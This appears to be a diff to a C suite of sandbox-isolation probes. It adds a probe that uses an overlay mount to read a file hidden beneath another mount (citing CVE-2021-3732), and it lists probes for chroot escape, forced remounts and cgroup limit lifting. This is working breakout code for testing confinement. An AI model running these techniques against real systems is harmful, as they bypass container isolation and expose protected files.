@@ -135,7 +135,7 @@ static int remount_here(void *arg)
 	int old_way = mount(NULL, args[0], NULL, MS_REMOUNT | MS_BIND, NULL);
 	int err = errno;
 	return (new_way == 0 || old_way == 0) && writes_in(args[0]) != EROFS ? done("%s is writable", args[0])
-									       : stopped("remount: %s", strerror(err));
+									     : stopped("remount: %s", strerror(err));
 }
 
 static int remount(char **args)
@@ -170,6 +170,26 @@ static int peek(char **args)
 	return in_userns(CLONE_NEWNS, peek_here, args);
 }
 
+/* The same by an overlay, whose layers are copies of a mount without what is mounted on it (CVE-2021-3732). */
+static int peek_overlay_here(void *arg)
+{
+	char **args = arg, path[4200], options[4200];
+	if (mkdir("/tmp/peek", 0700) != 0 && errno != EEXIST)
+		return untried("/tmp/peek: %m");
+	if (mkdir("/tmp/empty", 0700) != 0 && errno != EEXIST)
+		return untried("/tmp/empty: %m");
+	snprintf(options, sizeof(options), "lowerdir=%s:/tmp/empty", args[0]);
+	if (mount("overlay", "/tmp/peek", "overlay", MS_RDONLY, options) != 0)
+		return stopped("overlay of %s: %m", args[0]);
+	snprintf(path, sizeof(path), "/tmp/peek/%s", args[1]);
+	return holds_secret(AT_FDCWD, path) ? done("read %s below the mount", args[1]) : stopped("%s: %m", path);
+}
+
+static int peek_overlay(char **args)
+{
+	return in_userns(CLONE_NEWNS, peek_overlay_here, args);
+}
+
 /* The classic way out of a chroot: a directory kept open while the root moves below it. */
 static int leave_chroot(void *arg)
 {
@@ -192,8 +212,8 @@ static int escape_chroot(char **args)
 
 /* Every kind of cgroup file system that may be mounted below; its limits and tasks are tried. */
 static const char *const hierarchies[][2] = {
-	{ "cgroup2", NULL },   { "cgroup", "memory" },  { "cgroup", "cpu,cpuacct" }, { "cgroup", "cpu" },
-	{ "cgroup", "pids" },  { "cgroup", "freezer" }, { "cgroup", "devices" },     { "cgroup", "rdma" },
+	{ "cgroup2", NULL },    { "cgroup", "memory" },  { "cgroup", "cpu,cpuacct" }, { "cgroup", "cpu" },
+	{ "cgroup", "pids" },   { "cgroup", "freezer" }, { "cgroup", "devices" },     { "cgroup", "rdma" },
 	{ "cgroup", "cpuset" }, { "cgroup", "blkio" },
 };
 
@@ -310,6 +330,7 @@ const probe mount_probes[] = {
 	{ "remount", 1, remount, "make DIR writable" },
 	{ "remount-nested", 1, remount_nested, "make DIR writable, as root of a user namespace below" },
 	{ "peek", 2, peek, "read the secret NAME in DIR below what is mounted there" },
+	{ "peek-overlay", 2, peek_overlay, "the same by an overlay" },
 	{ "escape-chroot", 1, escape_chroot, "read the secret PATH of the outside after leaving the root" },
 	{ "cgroup-files", 1, cgroup_files, "mount cgroup trees below and open FILE... for writing" },
 	{ "exceed-pids", 1, exceed_pids, "have N processes after lifting the limit by a cgroup mount below" },
